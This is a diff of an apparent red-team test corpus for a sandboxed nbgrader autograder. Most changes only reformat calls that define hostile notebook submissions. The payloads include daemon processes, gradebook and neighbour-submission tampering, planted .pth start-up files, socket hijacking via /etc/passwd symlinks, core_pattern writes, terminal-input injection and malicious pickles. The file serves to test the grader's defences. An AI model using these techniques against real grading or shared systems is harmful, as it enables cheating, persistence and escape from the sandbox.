@@ -6,7 +6,12 @@ from corpus.attack import LEFT, SAY_ESCAPED, SLEEP, Submission, answer, attack, 
 
 F = "escape"
 
-cell(F, "daemon", "a process that outlives the run", "survives", f"""
+cell(
+    F,
+    "daemon",
+    "a process that outlives the run",
+    "survives",
+    f"""
 import os
 if os.fork() == 0:
     os.setsid()
@@ -14,16 +19,33 @@ if os.fork() == 0:
         os.closerange(0, 64)
         os.execvp("sleep", ["sleep", "{SLEEP}"])
     os._exit(0)
-""", keeps=True)
+""",
+    keeps=True,
+)
 
-cell(F, "daemon-by-shell", "the same, by nohup and &", "survives", f"!nohup setsid sleep {SLEEP} >/dev/null 2>&1 &", keeps=True)
+cell(
+    F,
+    "daemon-by-shell",
+    "the same, by nohup and &",
+    "survives",
+    f"!nohup setsid sleep {SLEEP} >/dev/null 2>&1 &",
+    keeps=True,
+)
 
-cell(F, "at-exit", "work done after the last test", "none", f"""
+cell(
+    F,
+    "at-exit",
+    "work done after the last test",
+    "none",
+    f"""
 import atexit, os, signal
 def late(*a):
     print("late"); open("/tmp/{LEFT}-exit", "w").close(); os.system("sleep {SLEEP} &")
 atexit.register(late); signal.signal(signal.SIGTERM, late); signal.signal(signal.SIGHUP, late)
-""", why="nbgrader's kernel has a moment for it: timing decides", keeps=True)
+""",
+    why="nbgrader's kernel has a moment for it: timing decides",
+    keeps=True,
+)
 
 
 @attack(F, "the neighbour's submission, changed before it is graded", "harm", keeps=True)
@@ -55,8 +77,13 @@ for name in glob.glob("../../../*.db") + [{str(work.course)!r} + "/gradebook.db"
 """)
 
 
-@attack(F, "the gradebook, locked until the kernel ends", "none", why="nbgrader waits five seconds and then aborts; the lock ends with the cell",
-        keeps=True)
+@attack(
+    F,
+    "the gradebook, locked until the kernel ends",
+    "none",
+    why="nbgrader waits five seconds and then aborts; the lock ends with the cell",
+    keeps=True,
+)
 def gradebook_locked(work: Submission) -> None:
     work.add(f"""
 import sqlite3, time
@@ -78,7 +105,12 @@ for name in ("nbgrader_config.py", "lab_helper.py", "source/lab/lab_helper.py", 
 """)
 
 
-cell(F, "home-written", "start-up files in the instructor's home and Python", "harm", f"""
+cell(
+    F,
+    "home-written",
+    "start-up files in the instructor's home and Python",
+    "harm",
+    f"""
 import os, site, sys, glob
 places = [os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter"), os.path.expanduser("~/.config"),
           "/tmp", "/dev/shm", "/run", "/var/tmp", "/etc", "/usr/lib", sys.prefix, *site.getsitepackages()]
@@ -87,10 +119,18 @@ for place in places:
         os.makedirs(place, exist_ok=True)
         open(place + "/{LEFT}.pth", "w").write("")
     except OSError as error: print(place, error)
-""", keeps=True)
+""",
+    keeps=True,
+)
 
 
-@attack(F, "the host's network: loopback, the world, names", "none", why="the box of the run against stock has no network", keeps=True)
+@attack(
+    F,
+    "the host's network: loopback, the world, names",
+    "none",
+    why="the box of the run against stock has no network",
+    keeps=True,
+)
 def network(work: Submission) -> None:
     work.add(f"""
 import socket
@@ -106,7 +146,12 @@ except OSError as error: print(error)
 """)
 
 
-cell(F, "sockets-of-the-host", "abstract and named sockets of the host, and one left behind", "none", f"""
+cell(
+    F,
+    "sockets-of-the-host",
+    "abstract and named sockets of the host, and one left behind",
+    "none",
+    f"""
 import socket, os, glob
 for line in open("/proc/net/unix").read().splitlines()[1:]:
     path = line.split()[-1]
@@ -118,11 +163,18 @@ s = socket.socket(socket.AF_UNIX); s.bind("\\0{LEFT}"); s.listen()
 for kind in (socket.AF_VSOCK, socket.AF_PACKET, socket.AF_ALG, 16):
     try: socket.socket(kind, socket.SOCK_RAW); print("family", kind)
     except OSError as error: print(error)
-""", why="its own kernel's sockets", keeps=True)
+""",
+    why="its own kernel's sockets",
+    keeps=True,
+)
 
 
-@attack(F, "signals to everyone it can see, if it cannot see the course", "none",
-        why="not fired where the course is in sight: that is no sandbox")
+@attack(
+    F,
+    "signals to everyone it can see, if it cannot see the course",
+    "none",
+    why="not fired where the course is in sight: that is no sandbox",
+)
 def signals(work: Submission) -> None:
     work.add(f"""
 import os, signal
@@ -161,9 +213,22 @@ if os.uname().machine == "x86_64":
         if os.getpid() != pid: os._exit(0)
         if got >= 0 and one[0] not in ("setuid 0", "ptrace", "clone3", "pidfd_getfd", "process_vm_readv"): print({SAY_ESCAPED}, one[0])
 """
-cell(F, "system-calls", "the system calls that leave a sandbox", "none", CALLS, why="escapes are looked for under our sandbox", keeps=False)
+cell(
+    F,
+    "system-calls",
+    "the system calls that leave a sandbox",
+    "none",
+    CALLS,
+    why="escapes are looked for under our sandbox",
+    keeps=False,
+)
 
-cell(F, "limits-raised", "its own limits raised, its priority too", "none", f"""
+cell(
+    F,
+    "limits-raised",
+    "its own limits raised, its priority too",
+    "none",
+    f"""
 import resource, os
 for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
     try:
@@ -174,21 +239,37 @@ for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, 
 try: os.nice(-20); print({SAY_ESCAPED}, "nice")
 except OSError as error: print(error)
 for name, text in (("/proc/sys/kernel/core_pattern", "|/bin/id"), ("/proc/self/oom_score_adj", "-1000"), ("/proc/sysrq-trigger", "h"),
-                   ("/sys/kernel/uevent_helper", "/x"), ("/sys/fs/cgroup/memory/tasks", "1"), ("/proc/1/oom_score_adj", "0")):
+                   ("/sys/kernel/uevent_helper", "/x"), ("/sys/fs/cgroup/memory/tasks", "1")):
     try:
         open(name, "r+").write(text); print({SAY_ESCAPED}, name)
     except OSError as error: print(name, error)
-""", why="escapes are looked for under our sandbox", keeps=True)
+""",
+    why="escapes are looked for under our sandbox",
+    keeps=True,
+)
 
-cell(F, "terminal-typed", "characters typed into the instructor's terminal", "none", f"""
+cell(
+    F,
+    "terminal-typed",
+    "characters typed into the instructor's terminal",
+    "none",
+    f"""
 import fcntl, os
 for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
     try:
         with open(name) as terminal: fcntl.ioctl(terminal, 0x5412, b"#"); print({SAY_ESCAPED}, name)
     except OSError as error: print(name, error)
-""", why="no terminal here", keeps=True)
+""",
+    why="no terminal here",
+    keeps=True,
+)
 
-cell(F, "sockets-of-its-own-kernel", "the sockets that its kernel is heard by: removed, replaced by links", "none", """
+cell(
+    F,
+    "sockets-of-its-own-kernel",
+    "the sockets that its kernel is heard by: removed, replaced by links",
+    "none",
+    """
 import glob, os
 for folder in ("/s", "/run", "/tmp", "/job", os.path.expanduser("~")):
     for name in glob.glob(folder + "/**", recursive=True):
@@ -197,25 +278,50 @@ for folder in ("/s", "/run", "/tmp", "/job", os.path.expanduser("~")):
             if stat.S_ISSOCK(os.lstat(name).st_mode):
                 os.unlink(name); os.symlink("/etc/passwd", name)
         except OSError: pass
-""", why="its own kernel only")
+""",
+    why="its own kernel only",
+)
 
-answer(F, "crash-in-c", "a segmentation fault in a call", "none", "import ctypes\ndef transpose(a): ctypes.string_at(0)",
-       why="nbgrader drops the whole submission", keeps=True)
+answer(
+    F,
+    "crash-in-c",
+    "a segmentation fault in a call",
+    "none",
+    "import ctypes\ndef transpose(a): ctypes.string_at(0)",
+    why="nbgrader drops the whole submission",
+    keeps=True,
+)
 
-answer(F, "fork-in-a-call", "a child that goes on where its parent was", "none", f"""
+answer(
+    F,
+    "fork-in-a-call",
+    "a child that goes on where its parent was",
+    "none",
+    f"""
 import os
 def transpose(a):
     if os.fork() == 0:
         os.setsid()
         os.execvp("sleep", ["sleep", "{SLEEP}"])
     return a
-""", why="the same daemon, born in a call", keeps=True)
+""",
+    why="the same daemon, born in a call",
+    keeps=True,
+)
 
-cell(F, "pickles", "pickles and archives left for a grader that loads them", "none", f"""
+cell(
+    F,
+    "pickles",
+    "pickles and archives left for a grader that loads them",
+    "none",
+    f"""
 import pickle, numpy as np, zipfile
 class Bomb:
     def __reduce__(self): return (__import__("os").system, ("sleep {SLEEP} &",))
 for name in ("data.pkl", "result.pickle", "cache.npy", "lab.ipynb.pkl"):
     open(name, "wb").write(pickle.dumps(Bomb()))
 np.save("x.npy", np.array([Bomb()], dtype=object), allow_pickle=True)
-""", why="nobody loads them", keeps=True)
+""",
+    why="nobody loads them",
+    keeps=True,
+)
